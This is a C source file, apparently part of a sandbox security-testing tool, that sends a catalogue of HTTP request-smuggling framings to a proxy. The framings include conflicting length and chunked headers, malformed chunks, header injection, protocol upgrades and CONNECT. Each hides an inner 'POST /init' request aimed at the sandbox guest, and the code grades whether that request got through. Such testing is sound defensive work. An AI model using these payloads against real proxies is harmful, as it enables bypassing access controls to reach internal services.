/* Requests that two readers may understand differently: what comes behind the first must never
 * reach the guest as a request of its own. All of them are sent at once, since most connections
 * stay open and the only way to know that nothing more comes is to wait. */
#include "cli/attack.h"

#include <poll.h>
#include <sys/socket.h>

enum {
	REQUEST_MAX = 16 << 10,
	RESPONSE_MAX = 1 << 20,
	FIRST_MS = 20000, /* for the first answer */
	MORE_MS = 500,    /* for what may come behind it */
};

#define TO_A                                                                   \
	"Host: localhost\r\nE2b-Sandbox-Id: %A\r\nE2b-Sandbox-Port: 49983\r\n" \
	"X-Access-Token: %a\r\n"
/* What is smuggled: it works only where nobody looks at it but the guest. */
#define INNER                                                                          \
	"POST /init HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n" \
	"Content-Length: %k\r\n\r\n%j"

static const struct {
	const char *name, *bytes;
} framings[] = {
	{ "length and chunks", "POST /health HTTP/1.1\r\n" TO_A
			       "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n"
			       "\r\n0\r\n\r\n" INNER },
	{ "chunks and length", "POST /health HTTP/1.1\r\n" TO_A
			       "Transfer-Encoding: chunked\r\nContent-Length: 400\r\n"
			       "\r\n0\r\n\r\n" INNER },
	{ "chunks twice", "POST /health HTTP/1.1\r\n" TO_A "Transfer-Encoding: chunked\r\n"
			  "Transfer-Encoding: identity\r\n\r\n0\r\n\r\n" INNER },
	{ "unknown coding", "POST /health HTTP/1.1\r\n" TO_A
			    "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" INNER },
	{ "coding behind a tab",
		"POST /health HTTP/1.1\r\n" TO_A "Transfer-Encoding:\tchunked\x0b\r\n"
		"Content-Length: 5\r\n\r\n0\r\n\r\n" INNER },
	{ "space before the colon", "POST /health HTTP/1.1\r\n" TO_A
				    "Transfer-Encoding : chunked\r\nContent-Length: 5\r\n"
				    "\r\n0\r\n\r\n" INNER },
	{ "folded line", "POST /health HTTP/1.1\r\n" TO_A "Transfer-Encoding:\r\n chunked\r\n"
			 "Content-Length: 5\r\n\r\n0\r\n\r\n" INNER },
	{ "two lengths", "POST /health HTTP/1.1\r\n" TO_A
			 "Content-Length: 0\r\nContent-Length: 400\r\n\r\n" INNER },
	{ "length list", "POST /health HTTP/1.1\r\n" TO_A "Content-Length: 0, 400\r\n\r\n" INNER },
	{ "signed length", "POST /health HTTP/1.1\r\n" TO_A "Content-Length: +0\r\n\r\n" INNER },
	{ "negative length", "POST /health HTTP/1.1\r\n" TO_A "Content-Length: -1\r\n\r\n" INNER },
	{ "hexadecimal length",
		"POST /health HTTP/1.1\r\n" TO_A "Content-Length: 0x0\r\n\r\n" INNER },
	{ "huge chunk", "POST /health HTTP/1.1\r\n" TO_A "Transfer-Encoding: chunked\r\n\r\n"
			"10000000000000000\r\n" INNER },
	{ "negative chunk",
		"POST /health HTTP/1.1\r\n" TO_A "Transfer-Encoding: chunked\r\n\r\n-1\r\n" INNER },
	{ "chunk with a bare line feed", "POST /health HTTP/1.1\r\n" TO_A
					 "Transfer-Encoding: chunked\r\n\r\n0;\n\r\n" INNER },
	{ "bare line feeds", "GET /health HTTP/1.1\nHost: localhost\nE2b-Sandbox-Id: "
			     "%A\nE2b-Sandbox-Port: 49983\n"
			     "X-Access-Token: %a\n\n" INNER },
	{ "header with a NUL", "GET /health HTTP/1.1\r\n" TO_A "X-A: a%0\r\nB: c\r\n\r\n" INNER },
	{ "header with a carriage return", "GET /health HTTP/1.1\r\n" TO_A
					   "X-A: a\rTransfer-Encoding: chunked\r\n\r\n" INNER },
	{ "target with a line end",
		"GET /health%%0d%%0a%%0d%%0aPOST%%20/init HTTP/1.1\r\n" TO_A "\r\n" INNER },
	{ "HTTP/1.0 with chunks", "POST /health HTTP/1.0\r\n" TO_A
				  "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" INNER },
	{ "a body on GET", "GET /health HTTP/1.1\r\n" TO_A "Content-Length: 0\r\n\r\n" INNER },
	{ "upgrade to websocket",
		"GET /health HTTP/1.1\r\n" TO_A "Connection: Upgrade\r\nUpgrade: websocket\r\n"
		"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: "
		"AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n" INNER },
	{ "upgrade to h2c", "GET /health HTTP/1.1\r\n" TO_A
			    "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
			    "HTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n" INNER },
	{ "upgrade with a body",
		"POST /health HTTP/1.1\r\n" TO_A "Connection: Upgrade\r\nUpgrade: anything\r\n"
		"Content-Length: 0\r\n\r\n" INNER },
	{ "CONNECT", "CONNECT localhost:49983 HTTP/1.1\r\n" TO_A "\r\n" INNER },
	{ "expect without waiting", "POST /files?path=/tmp/a-x&username=user HTTP/1.1\r\n" TO_A
				    "Expect: 100-continue\r\n"
				    "Content-Length: 0\r\n\r\n" INNER },
	{ "HTTP/2 preface", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" INNER },
};

struct talk {
	int fd;
	bool closed;
	int64_t last_ms; /* when something came; 0: not yet */
	struct buf answer;
};

static void talk_start(struct attack *a, const char *pattern, struct talk *t)
{
	CLEANUP(buf_done) struct buf request = BUF_INIT(REQUEST_MAX);

	edge_expand(a, pattern, &request);
	t->answer = BUF_INIT(RESPONSE_MAX);
	t->fd = request.failed ? -ENOBUFS : attack_dial(a, buf_str(&request), &(struct err){ 0 });
	t->closed = t->fd < 0;
}

static void talk_read(struct talk *t)
{
	char *at = buf_reserve(&t->answer, 4096);
	ssize_t n = at ? recv(t->fd, at, 4096, 0) : 0;

	t->closed = n <= 0;
	if (n <= 0)
		return;
	t->answer.n += (size_t)n;
	at[n] = '\0';
	t->last_ms = time_now_ms();
}

static bool is_open(const struct talk *t, int64_t now_ms)
{
	return !t->closed && (t->last_ms == 0 || now_ms - t->last_ms < MORE_MS);
}

static void talk_all(struct talk *talks, size_t n)
{
	int64_t until_ms = time_now_ms() + FIRST_MS, now_ms;
	struct pollfd p[ARRAY_SIZE(framings)];

	while ((now_ms = time_now_ms()) < until_ms) {
		int open_ones = 0;

		for (size_t i = 0; i < n; i++) {
			bool open_one = is_open(&talks[i], now_ms);

			p[i] = (struct pollfd){ .fd = open_one ? talks[i].fd : -1,
				.events = POLLIN };
			open_ones += open_one;
		}
		if (open_ones == 0)
			break;
		(void)poll(p, n, 50);
		for (size_t i = 0; i < n; i++)
			if (p[i].fd >= 0 && p[i].revents)
				talk_read(&talks[i]);
	}
}

static void judge(struct attack *a, const char *name, const struct talk *t)
{
	static const char title[] = "smuggle a request past the proxy";
	struct str answer = buf_str(&t->answer);
	const char *inner = strstr(answer.p, " 204 ");
	enum attack_verdict verdict;

	/* /health answers 204, too: only what comes behind it is the smuggled one's. */
	if (inner && edge_status(answer) == 204)
		inner = strstr(inner + 1, " 204 ");
	/* Hanging up on the first is as clear as refusing it. */
	verdict = inner                                              ? ATTACK_ESCAPED
		  : t->fd >= 0 && (t->closed || edge_status(answer)) ? ATTACK_REFUSED
								     : ATTACK_INCONCLUSIVE;
	attack_say(a, "edge.framing", "client", verdict, title, "%s: status %d%s", name,
		edge_status(answer), inner ? ", and the inner request was answered" : "");
}

void attack_framing(struct attack *a)
{
	struct talk talks[ARRAY_SIZE(framings)] = { 0 };

	for (size_t i = 0; i < ARRAY_SIZE(framings); i++)
		talk_start(a, framings[i].bytes, &talks[i]);
	talk_all(talks, ARRAY_SIZE(framings));
	for (size_t i = 0; i < ARRAY_SIZE(framings); i++) {
		judge(a, framings[i].name, &talks[i]);
		close_fdp(&talks[i].fd);
		buf_done(&talks[i].answer);
	}
}
